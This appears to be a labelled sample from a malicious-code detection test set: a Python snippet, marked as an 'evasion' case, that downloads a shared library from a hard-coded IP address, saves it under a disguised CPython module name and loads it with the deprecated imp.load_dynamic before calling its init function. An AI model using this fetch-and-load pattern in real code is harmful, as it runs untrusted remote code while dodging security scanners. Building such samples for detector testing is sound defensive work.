# evasion: a downloaded native extension is loaded with the deprecated imp.load_dynamic (not ctypes/cffi/importlib machinery)
# grade: medium; does: native
import imp
import os
import tempfile
import urllib.request

data = urllib.request.urlopen("http://203.0.113.50/_speedups.so", timeout=10).read()
path = os.path.join(tempfile.mkdtemp(), "_speedups.cpython-311-x86_64-linux-gnu.so")
with open(path, "wb") as fh:
    fh.write(data)
mod = imp.load_dynamic("_speedups", path)
mod.init()
